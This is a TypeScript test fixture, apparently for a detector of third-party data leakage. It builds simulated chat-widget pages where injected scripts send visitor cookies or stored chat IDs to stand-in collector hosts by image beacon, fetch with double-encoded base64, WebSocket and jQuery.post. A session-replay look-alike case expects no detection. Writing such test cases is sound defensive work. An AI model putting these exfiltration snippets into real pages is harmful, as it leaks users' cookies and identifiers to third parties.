import { fromCdn } from '../innocent/packages.ts';
import { actingScript } from './acting-script.ts';
import { parleySite, whenDrawn, widgetSite } from './chat-site.ts';
import { overtalk, parley } from './demo-vendors.ts';
import type { DetectorRoute } from './route.ts';
import { chatBegun, collectors, openChatStudio, opensChat, parleyVisits } from './values-chat.ts';

const jquery = fromCdn('jquery/dist/jquery.min.js');
const rrweb = fromCdn('rrweb/dist/rrweb.umd.min.cjs');

const byDigest = actingScript(
  'https://cdn.overtalk.example/sent-value/digest.js',
  whenDrawn(
    '#parley-launcher',
    `    var visitor = /parley_visitor=([^;]+)/.exec(document.cookie)[1];
    crypto.subtle.digest('SHA-256', new TextEncoder().encode(visitor)).then(function (digest) {
      var hex = Array.from(new Uint8Array(digest), function (byte) {
        return byte.toString(16).padStart(2, '0');
      }).join('');
      new Image().src = 'https://data.audience.example/match.gif?u=' + hex; /* act */
    });`,
  ),
);

const byCookies = actingScript(
  'https://static.pageboost.example/sent-value/cookies.js',
  whenDrawn(
    '#parley-launcher',
    `    var twice = encodeURIComponent(encodeURIComponent(document.cookie));
    fetch('https://collect.pageboost.example/v1/' + btoa(twice), { mode: 'no-cors' }); /* act */`,
  ),
);

const bySocket = actingScript(
  'https://cdn.overtalk.example/sent-value/socket.js',
  whenDrawn(
    '#parley-launcher',
    `    var socket = new WebSocket('wss://collect.overtalk.example/live');
    socket.onopen = function () {
      socket.send(JSON.stringify({ seen: sessionStorage.getItem('parley.visit') })); /* act */
    };`,
  ),
);

const byAjax = actingScript(
  'https://cdn.overtalk.example/sent-value/measure.js',
  whenDrawn(
    openChatStudio.rootSelector,
    `    var data = JSON.stringify({ site: location.hostname, chat: btoa(localStorage.getItem('ocs-user-id')) });
    window.jQuery.post('https://collect.overtalk.example/v1/visits', data); /* act */`,
  ),
);

/** Plays visits back: notes everything that the page shows and each call that it makes. */
const replays = actingScript(
  'https://cdn.replayhouse.example/record.js',
  `(function () {
  var events = [];
  var fetch_ = window.fetch;
  window.fetch = function (input) {
    events.push({ call: String(input.url || input) });
    return fetch_.apply(this, arguments);
  };
  window.rrweb.record({ emit: function (event) { events.push(event); } });
  setInterval(function () {
    if (events.length === 0) return;
    fetch_('https://data.audience.example/events', {
      method: 'POST', mode: 'no-cors', body: JSON.stringify(events.splice(0))
    });
    window.actDone = ${chatBegun};
  }, 500);
})();
`,
);

export const routes: DetectorRoute[] = [
  {
    id: 'the SHA-256 of the vendor’s cookie to a third server',
    affected: parley,
    others: [overtalk],
    packages: [],
    site: () =>
      parleySite({
        id: 'sent-digest',
        tags: `${parleyVisits.tag}${byDigest.tag}`,
        routes: [parleyVisits.routes, byDigest.routes, collectors],
      }),
    expected: byDigest.expected('other-vendor', 'overtalk'),
  },
  {
    id: 'all cookies, URL-encoded twice and in base64, in a path',
    affected: parley,
    packages: [],
    site: () =>
      parleySite({
        id: 'sent-cookies',
        tags: `${parleyVisits.tag}${byCookies.tag}`,
        routes: [parleyVisits.routes, byCookies.routes, collectors],
      }),
    expected: byCookies.expected('third-party'),
  },
  {
    id: 'a message of an open WebSocket',
    affected: parley,
    others: [overtalk],
    packages: [],
    site: () =>
      parleySite({
        id: 'sent-socket',
        tags: `${parleyVisits.tag}${bySocket.tag}`,
        routes: [parleyVisits.routes, bySocket.routes, collectors],
      }),
    expected: bySocket.expected('other-vendor', 'overtalk'),
  },
  {
    id: 'jQuery.post of the chat’s stored number, in base64 in JSON',
    affected: openChatStudio.vendor,
    others: [overtalk],
    packages: ['open-chat-studio-widget', 'jquery'],
    site: () =>
      widgetSite(openChatStudio, {
        id: 'sent-ajax',
        head: jquery.tag,
        tags: `${opensChat}${byAjax.tag}`,
        routes: [jquery.routes, byAjax.routes, collectors],
        ready: chatBegun,
      }),
    expected: byAjax.expected('other-vendor', 'overtalk'),
  },
  {
    id: 'look-alike: rrweb records the page, and a replay service gets the record',
    affected: openChatStudio.vendor,
    packages: ['open-chat-studio-widget', 'rrweb'],
    site: () =>
      widgetSite(openChatStudio, {
        id: 'sent-replay',
        head: `${rrweb.tag}${replays.tag}`,
        tags: opensChat,
        routes: [rrweb.routes, replays.routes, collectors],
      }),
    expected: null,
  },
];
